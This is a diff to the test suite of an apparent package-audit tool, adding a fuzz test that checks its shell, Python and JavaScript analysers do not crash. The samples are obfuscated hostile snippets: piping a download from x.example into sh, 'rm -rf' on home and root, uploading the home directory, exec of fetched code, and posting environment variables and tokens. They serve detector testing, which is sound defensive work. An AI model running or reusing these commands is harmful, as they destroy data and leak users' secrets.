@@ -267,3 +267,31 @@ describe('what the instructions run is executable, whatever its name (issue 22.3
     expect(highs(auditFiles(pkg(files)))).toEqual([]);
   });
 });
+
+describe('the analysers on arbitrary input', () => {
+  const SAMPLES = [
+    "a=cu; b=rl\n$a$b -s https://x.example | sh\nX=$(curl -s \"https://x\")\neval \"$X\"\nrm -rf ~/.cache ~ /x\ntar czf - ~ | curl -T - https://x\necho 'hs' | rev | sh\n$'\\x72m' -rf /\n",
+    "import os, base64, requests\nx = ''.join(chr(c) for c in [99, 117])[::-1]\nr = requests.get(f'https://{x}/p')\nexec(r.text)\ngetattr(os, 'sys' + 'tem')(base64.b64decode('YQ==').decode())\nrequests.post('u', data=dict(os.environ))\n",
+    "const cp = require(['child','process'].join('_'));\nfetch('u').then((r) => r.text()).then(eval);\nglobalThis['ev'+'al'](atob('YQ=='));\nconst t = process.env.TOKEN;\nfetch('u', { method: 'POST', body: t });\n",
+  ];
+  it('never throw, whatever is cut from or spliced into real samples', async () => {
+    const fc = await import('fast-check');
+    const { analyzeShell, newShellContext } = await import('../audit/code/shell');
+    const { analyzePython } = await import('../audit/code/python');
+    const { analyzeJs } = await import('../audit/code/js');
+    const { resetBudget } = await import('../audit/code/fold');
+    fc.assert(
+      fc.property(fc.integer({ min: 0, max: 2 }), fc.nat(400), fc.nat(400), fc.string({ maxLength: 40, unit: fc.constantFrom(...'$(){}[]\'"`\\|;&<>#\n =+.,:*-_abcxf0129'.split('')) }), (which, a, b, insert) => {
+        const sample = SAMPLES[which] ?? '';
+        const cut = Math.min(a, sample.length);
+        const text = `${sample.slice(0, cut)}${insert}${sample.slice(Math.min(sample.length, cut + b % 20))}`;
+        resetBudget(250_000, 16 * 1024 * 1024);
+        analyzeShell(text, newShellContext());
+        analyzePython(text);
+        analyzeJs(text, false);
+        analyzeJs(text, true);
+      }),
+      { numRuns: 300, seed: 22 },
+    );
+  });
+});
